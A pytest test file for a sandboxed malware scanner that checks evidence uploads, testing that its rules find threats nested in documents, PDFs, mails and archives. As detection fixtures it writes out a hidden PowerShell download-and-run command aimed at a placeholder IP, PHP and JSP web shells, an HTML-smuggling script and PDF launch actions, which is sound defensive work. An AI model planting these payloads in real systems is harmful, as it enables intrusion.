"""The built-in rules find what no honest evidence holds, and find nothing in honest evidence."""

from __future__ import annotations

import base64
import json
import re
import struct
import subprocess
import sys
import zipfile
import zlib
from io import BytesIO
from pathlib import Path

import pikepdf
import pytest

from app.cli.material import make_material
from app.evidence.media import DamagedFile, EncryptedFile, FileBomb
from app.evidence.media.catalogue import OFFICE_OPEN, READERS
from app.evidence.media.refusals import Unacceptable
from app.evidence.scanning import ScanFailed, Verdict, builtin, rules
from tests.evidence.malware import EICAR
from tests.evidence.samples import SAMPLES, WORD
from tests.wav import recording

SHEET = f"{OFFICE_OPEN}.spreadsheetml.sheet"


def found(path: Path, content: bytes, media_type: str) -> str | None:
    path.write_bytes(content)
    return builtin.scan(path, media_type).found


@pytest.fixture(name="path")
def _path(tmp_path: Path) -> Path:
    return tmp_path / "evidence"


def packed(**parts: bytes) -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_", "."), content)
    return made.getvalue()


def pdf_with(attached: bytes = b"", **catalogue: str) -> bytes:
    made = BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        if attached:
            document.attachments["a.bin"] = attached
        for name, value in catalogue.items():
            document.Root[f"/{name}"] = pikepdf.Object.parse(value.encode())
        document.save(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return made.getvalue()


def pdf_coded(content: bytes, *codings: str) -> bytes:
    """Return a PDF with a stream that lies in it as it is, said to be in these codings."""
    made, names = BytesIO(), " ".join(f"/{coding}" for coding in codings)
    with pikepdf.new() as document:
        document.add_blank_page()
        stream = pikepdf.Stream(document, content)
        stream.Coded = pikepdf.Name("/" + "Q" * 80)
        document.Root.Held = document.make_indirect(stream)
        document.save(
            made, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False
        )
    # Written by hand, for the library would put a wrong coding right.
    written = f"/Filter [{names}]".encode().ljust(len(b"/Coded /") + 80)
    return made.getvalue().replace(b"/Coded /" + b"Q" * 80, written)


def mail_with(attached: bytes) -> bytes:
    body = base64.encodebytes(attached)
    return (
        b"From: a@example.org\nDate: Tue, 4 Mar 2025 10:00:00 +0000\nMIME-Version: 1.0\n"
        b"Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n"
        b"Content-Disposition: attachment; filename=minutes.pdf\n\n" + body
    )


STUB = b"This program cannot be run in DOS mode.\r\r\n$"
WINDOWS = (
    b"MZ\x90\0" + bytes(56) + struct.pack("<I", 128) + bytes(14) + STUB + bytes(7) + b"PE\0\0L\x01"
)
LINUX = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0" + bytes(100)
MAC = bytes.fromhex("cffaedfe0700000103000000") + struct.pack("<I", 2) + bytes(99)
JAVA = bytes.fromhex("cafebabe0000003d") + bytes(99)
SHORTCUT = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(99)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)
MACROS = OLE + "_VBA_PROJECT".encode("utf-16-le") + bytes(100)
PACKAGE = OLE + "\x01Ole10Native".encode("utf-16-le") + bytes(100)
EQUATION = OLE + bytes.fromhex("02ce020000000000c000000000000046") + bytes(100)
FETCH = b"powershell -w hidden IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"
HIDDEN = b"powershell.exe -NoP -enc " + base64.b64encode(b"whoami" * 20)
HOST = b'var s = new ActiveXObject("WScript' + b'.Shell"); s.Run("cmd /c calc");'
SMUGGLING = (
    b"<html><script>var b = new Blob([atob(d)]); a.href = URL.createObjectURL(b);"
    b"a.download = 'x.iso'; a.click()</script></html>"
)
PHP = b"<?php @ev" + b"al(base64_decode($_POST['c'])); ?>"
JSP = b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>'
COMMAND = "<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>"
EXPORTED = "<</S/JavaScript/JS(this.exportDataObject\\({cName:'a', nLaunch: 2}\\))>>"

BAD: dict[str, tuple[bytes, str, str]] = {
    "the test file": (EICAR, "text/plain", "TestFile_Eicar"),
    "in a document": (packed(word__a_bin=EICAR), WORD, "TestFile_Eicar"),
    "in a document in a document": (
        packed(word__a_xlsx=packed(b_bin=packed(c_bin=EICAR))),
        WORD,
        "TestFile_Eicar",
    ),
    "attached to a PDF": (pdf_with(EICAR), "application/pdf", "TestFile_Eicar"),
    "attached to a mail": (mail_with(EICAR), "message/rfc822", "TestFile_Eicar"),
    "packed and attached": (mail_with(packed(a=EICAR)), "message/rfc822", "TestFile_Eicar"),
    "Windows program": (packed(word__media__image1_png=WINDOWS), WORD, "Program_Windows"),
    "behind a picture": (b"\xff\xd8\xff" + bytes(99) + WINDOWS, "image/jpeg", "Program_Windows"),
    "in a PDF": (pdf_with(WINDOWS), "application/pdf", "Program_Windows"),
    "Linux program": (mail_with(LINUX), "message/rfc822", "Program_Linux"),
    "Mac program": (mail_with(MAC), "message/rfc822", "Program_Mac"),
    "Java program": (packed(a_class=JAVA), WORD, "Program_Java"),
    "shortcut": (mail_with(SHORTCUT), "message/rfc822", "Shortcut_Windows"),
    "shell script": (mail_with(b"#!/usr/bin/env bash\nid"), "message/rfc822", "Script_Shell"),
    "macros": (packed(xl__printer_bin=MACROS), SHEET, "Macros_Office"),
    "package": (packed(word__embeddings__x_bin=PACKAGE), WORD, "Package_Ole"),
    "equation": (packed(word__embeddings__x_bin=EQUATION), WORD, "Equation_Editor"),
    "fetching": (packed(word__document_xml=FETCH), WORD, "Script_PowerShellDownload"),
    "hidden command": (HIDDEN, "text/plain", "Script_PowerShellDownload"),
    "in Windows' letters": (
        packed(a_lnk=FETCH.decode().encode("utf-16-le")),
        WORD,
        "Script_PowerShellDownload",
    ),
    "script host": (mail_with(HOST), "message/rfc822", "Script_WindowsHost"),
    "smuggling": (mail_with(SMUGGLING), "message/rfc822", "Page_Smuggling"),
    "PHP": (b"Notes\n" + PHP, "text/plain", "Shell_Php"),
    "JSP": (b"Notes\n" + JSP, "text/plain", "Shell_Jsp"),
    "launching": (pdf_with(OpenAction=COMMAND), "application/pdf", "Pdf_StartsProgram"),
    "dropping": (pdf_with(OpenAction=EXPORTED), "application/pdf", "Pdf_DropsFile"),
}


@pytest.mark.parametrize("name", BAD)
def test_malware_is_found_wherever_it_is(name: str, path: Path) -> None:
    content, media_type, rule = BAD[name]
    assert found(path, content, media_type) == rule


def test_every_rule_is_tried(path: Path) -> None:
    named = {line.split()[1] for text in rules.texts().values() for line in _heads(text)}
    assert {rule for _, _, rule in BAD.values()} == named


def _heads(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith("rule ")]


def test_the_scanner_s_own_files_are_no_malware_to_it(path: Path) -> None:
    for text in rules.texts().values():
        assert found(path, text.encode(), "text/plain") is None


@pytest.mark.parametrize("media_type", READERS)
def test_nothing_is_found_in_good_files(media_type: str, path: Path) -> None:
    assert found(path, SAMPLES[media_type](), media_type) is None


HONEST = """# Journal of a mentor of IT companies

The company wanted a script. We spoke about PowerShell, cmd.exe, `<?php echo $title; ?>` and macros
(VBA), and why an attachment called invoice.exe is not opened. "This program cannot be run in DOS
mode" is what old programs say. The EICAR test file begins with X5O!P%@AP. MZ are the initials of
Mark Zbikowski. They use Invoke-WebRequest in their builds, and `new Blob([data])` on their page.
An evaluation (eval) of the system: exec summary, see appendix. #!/bin/sh is how files begin.
"""


def test_nothing_is_found_in_what_people_write_about_programs(path: Path) -> None:
    assert found(path, HONEST.encode(), "text/markdown") is None
    assert found(path, packed(word__document_xml=HONEST.encode()), WORD) is None
    assert found(path, mail_with(HONEST.encode()), "message/rfc822") is None
    assert found(path, pdf_with(HONEST.encode()), "application/pdf") is None


def test_nothing_is_found_in_the_demo_s_material(tmp_path: Path) -> None:
    made = make_material(tmp_path, lambda _: None)
    assert len(made) > 5
    for one in made:
        assert builtin.scan(one.path, one.media_type).verdict == Verdict.CLEAN, one.path.name


def test_a_program_blown_up_with_nothing_is_found_in_a_pdf(path: Path) -> None:
    blown_up = WINDOWS + bytes(70 << 20)
    assert found(path, pdf_with(blown_up), "application/pdf") == "Program_Windows"


def test_pictures_as_large_as_scanners_make_them_are_scanned(path: Path) -> None:
    made = BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        for number in range(2):
            document.attachments[f"{number}.raw"] = bytes(150 << 20)
        document.save(made)
    assert found(path, made.getvalue(), "application/pdf") is None


@pytest.mark.parametrize("begins", [WINDOWS, b"Minutes"])
def test_a_pdf_that_unfolds_beyond_what_is_scanned_is_refused(path: Path, begins: bytes) -> None:
    path.write_bytes(pdf_with(begins + bytes(200 << 20)))
    with pytest.raises(FileBomb, match="more in it than a scan"):
        builtin.scan(path, "application/pdf")


def test_malware_found_before_there_is_too_much_is_malware(path: Path) -> None:
    with pikepdf.open(BytesIO(pdf_with(EICAR))) as document:
        document.attachments["b.bin"] = bytes(200 << 20)
        document.save(path)
    assert found(path, path.read_bytes(), "application/pdf") == "TestFile_Eicar"


@pytest.mark.parametrize(
    ("coded", "codings"),
    [
        (zlib.compress(LINUX), ["FlateDecode"]),
        (zlib.compress(LINUX), ["Crypt", "FlateDecode"]),
        (zlib.compress(LINUX), ["FlateDecode", "DCTDecode"]),
        (bytes([99]) + LINUX[:100] + bytes([len(LINUX) - 101]) + LINUX[100:] + b"\x80",
         ["RunLengthDecode"]),
        (LINUX, ["DCTDecode"]),
        (LINUX, ["JPXDecode"]),
    ],
)  # fmt: skip
def test_a_program_is_found_in_whatever_coding(
    coded: bytes, codings: list[str], path: Path
) -> None:
    content = pdf_coded(coded, *codings)
    assert b"Q" * 80 not in content
    assert found(path, content, "application/pdf") == "Program_Linux"


@pytest.mark.parametrize(
    ("coded", "coding"), [(zlib.compress(LINUX)[2:], "FlateDecode"), (LINUX, "UnheardOf")]
)
def test_a_pdf_with_a_stream_that_nobody_can_unpack_is_refused(
    coded: bytes, coding: str, path: Path
) -> None:
    path.write_bytes(pdf_coded(coded, coding))
    with pytest.raises(DamagedFile, match="cannot be unpacked"):
        builtin.scan(path, "application/pdf")


def altered(archive: bytes, at: int, said: bytes) -> bytes:
    """Say something else of an archive's last entry, at a place of its line in the directory."""
    line = archive.rindex(b"PK\x01\x02") + at
    return archive[:line] + said + archive[line + len(said) :]


FLAGS, METHOD = 8, 10
ATTACHED = packed(a=b"Minutes", b=b"Agenda " * 99)
DATA = ATTACHED.rindex(b"PK\x03\x04") + 31
UNREAD = {
    "locked": (altered(ATTACHED, FLAGS, b"\x01\x00"), EncryptedFile),
    "packed in a way nobody knows": (altered(ATTACHED, METHOD, b"\x63\x00"), DamagedFile),
    "broken off": (ATTACHED[:-30], DamagedFile),
    "of other bytes": (ATTACHED[:DATA] + b"\xff" * 4 + ATTACHED[DATA + 4 :], DamagedFile),
}


@pytest.mark.parametrize(("content", "refusal"), UNREAD.values(), ids=UNREAD)
def test_a_mail_with_an_archive_that_was_not_scanned_to_its_end_is_refused(
    content: bytes, refusal: type[Unacceptable], path: Path
) -> None:
    path.write_bytes(mail_with(content))
    with pytest.raises(refusal):
        builtin.scan(path, "message/rfc822")


def test_malware_found_before_an_archive_breaks_off_is_malware(path: Path) -> None:
    content = altered(packed(a=EICAR, b=b"Minutes"), FLAGS, b"\x01\x00")
    assert found(path, mail_with(content), "message/rfc822") == "TestFile_Eicar"


def test_nothing_is_found_in_noise(path: Path) -> None:
    noise = recording(16 << 20, seed=1971)
    # So much noise says every word of three letters: no rule may rest on such words alone.
    for word in (rb"iex", rb"iwr", rb"pwd"):
        assert re.search(rb"(?i)\b" + word + rb"\b", noise)
    assert found(path, noise, "audio/wav") is None


def test_what_lies_across_two_windows_is_found(path: Path) -> None:
    # The scanner goes through a file 16 MiB at a time.
    content = bytearray(20 << 20)
    content[(16 << 20) - 70 : (16 << 20) - 70 + len(FETCH)] = FETCH
    assert found(path, bytes(content), "video/mp4") == "Script_PowerShellDownload"


def test_a_scan_that_breaks_off_is_no_verdict(path: Path) -> None:
    path.write_bytes(b"%PDF-1.7 and no document")
    with pytest.raises(ScanFailed):
        builtin.scan(path, "application/pdf")


@pytest.mark.parametrize(
    "said",
    [
        b"",
        b"{",
        b"[]",
        b'{"fired": []',
        b'{"fired": "no"}',
        b'{"fired": ["Unheard_Of"]}',
        b'{"fired": [1]}',
        b'{"fired": [[]]}',
        b'{"fired": [], "more": 1}',
        b'{"refused": "FileBomb"}',
        b'{"refused": "Exception", "text": "no"}',
        b'{"refused": "FileBomb", "text": "no", "fired": []}',
    ],
)
def test_an_answer_that_makes_no_sense_is_no_verdict(said: bytes) -> None:
    with pytest.raises(ScanFailed):
        builtin.understood(said)


def test_a_sound_answer_is_understood() -> None:
    assert builtin.understood(b'{"fired": []}') == []
    said = json.dumps({"fired": ["TestFile_Eicar"]}).encode()
    assert builtin.understood(said) == ["TestFile_Eicar"]


def test_the_digest_changes_with_the_rules(monkeypatch: pytest.MonkeyPatch) -> None:
    before = rules.digest.__wrapped__()
    monkeypatch.setattr(
        rules, "texts", lambda: {"documents.yar": "rule Other { condition: false }"}
    )
    assert rules.digest.__wrapped__() != before
    assert len(before) == 64


def test_only_the_confined_scanner_loads_the_libraries() -> None:
    program = (
        "import sys, app.evidence.scanning\n"
        "print(sorted({'yara_x', 'pikepdf', 'sqlalchemy'} & set(sys.modules)))"
    )
    said = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, check=True
    )
    assert said.stdout == "[]\n"


def test_the_scanner_confines_itself(path: Path, tmp_path: Path) -> None:
    program = (
        "import os\nbefore = os.readlink('/proc/self/ns/net')\n"
        "from app.evidence.scanning import child\n"
        "from app.evidence.media import confinement\n"
        "left = confinement.leave_the_network()\n"
        "print(left == (os.readlink('/proc/self/ns/net') != before))"
    )
    said = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, check=True
    )
    assert said.stdout == "True\n"
